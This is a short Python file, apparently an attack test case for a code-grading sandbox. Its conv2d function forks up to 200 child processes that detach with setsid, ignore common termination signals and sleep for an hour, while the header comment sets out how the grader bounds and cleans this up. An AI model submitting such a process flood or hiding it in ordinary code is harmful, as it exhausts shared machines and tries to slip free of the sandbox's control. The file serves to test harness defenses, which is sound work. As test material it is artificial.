# Attack: a process flood from conv2d: fork until the kernel refuses, each child leaving the
# process group (setsid), ignoring the usual signals and sleeping for an hour. RLIMIT_NPROC bounds
# it; the grader kills every process of the worker's user at the end. conv2d (which returns None)
# earns nothing; the rest keep full marks; no process is left.
import os
import signal
import time


def conv2d(x, kernel):
    forked = 0
    for _ in range(200):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                try:
                    os.setsid()  # a session of its own, where the sandbox allows one
                except OSError:
                    pass
                for name in ("SIGTERM", "SIGHUP", "SIGINT", "SIGQUIT", "SIGUSR1"):
                    signal.signal(getattr(signal, name), signal.SIG_IGN)
                time.sleep(3600)
            finally:
                os._exit(0)
        forked += 1
    print(f"FORKED {forked}")
    return None
